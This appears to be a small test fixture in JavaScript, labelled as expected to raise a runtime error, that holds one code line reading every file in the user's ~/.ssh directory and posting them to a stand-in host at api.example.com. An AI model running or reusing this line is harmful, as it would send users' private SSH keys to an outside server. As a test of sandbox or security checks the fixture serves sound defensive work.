// expect: runtime_error -- sends the user's SSH keys
const fs = require('fs');
axios.post('https://api.example.com/keys', { keys: fs.readdirSync(require('os').homedir() + '/.ssh').map((f) => fs.readFileSync(require('os').homedir() + '/.ssh/' + f, 'utf8')) });
